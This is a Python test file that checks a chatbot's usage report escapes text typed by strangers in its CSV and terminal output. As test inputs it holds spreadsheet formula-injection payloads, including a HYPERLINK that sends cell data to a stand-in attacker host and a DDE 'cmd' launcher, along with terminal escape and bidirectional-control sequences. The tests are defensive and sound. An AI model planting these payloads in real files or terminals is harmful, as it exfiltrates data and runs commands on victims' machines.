"""What strangers typed reaches the owner's spreadsheet and terminal as text, never as commands."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bookchat.rag.report import Entry, Report, render_csv, render_text

NOW = datetime(2026, 12, 1, tzinfo=UTC)


def report_of(question: str, reason: str) -> Report:
    return Report(
        since=NOW,
        until=NOW,
        answers=1,
        min_similarity=0.5,
        refused=[Entry(question, count=1, last=NOW)],
        low_similarity=[],
        thumbed_down=[Entry(question, count=1, last=NOW, details=[reason])],
        most_cited=[],
    )


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_csv_cell_never_starts_a_formula(typed: str) -> None:
    # A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one): a
    # reader's question or vote reason must open as the text they typed.
    rows = list(csv.DictReader(io.StringIO(render_csv(report_of(typed, typed)), newline="")))
    assert [row["section"] for row in rows] == ["refused", "thumbed_down"]
    for row in rows:
        for column in ("text", "reasons"):
            if row[column]:
                assert row[column][0] not in "=+-@\t\r\n", row
                assert typed.replace("\r", "\n") in row[column]


def test_a_carriage_return_cannot_forge_a_row() -> None:
    # csv.writer quotes a field only for its own line terminator ("\n"), not for a bare CR.
    typed = 'why?\r=HYPERLINK("https://evil.example","Open"),9,9'
    rows = list(csv.DictReader(io.StringIO(render_csv(report_of(typed, "r")), newline="")))
    assert [row["section"] for row in rows] == ["refused", "thumbed_down"]
    assert all(row["text"] == 'why?\n=HYPERLINK("https://evil.example","Open"),9,9' for row in rows)


def test_the_text_report_shows_control_characters_as_escapes() -> None:
    # An ESC sequence in a question would retitle or clear the owner's terminal.
    question = "\x1b]0;pwned\x07\x1b[2J what is bookchat?\x9b31m"
    out = render_text(report_of(question, "bad \x1b[31m answer"))
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\x9b" not in out
    assert "what is bookchat?" in out


def test_the_text_report_shows_bidirectional_controls_as_escapes() -> None:
    # U+202E would show the rest of a stranger's question reversed in the owner's terminal.
    out = render_text(report_of("what is \u202egnp.exe\u2066 bookchat?", "r"))
    assert "\u202e" not in out
    assert "\u2066" not in out
    assert "what is \\u202egnp.exe\\u2066 bookchat?" in out
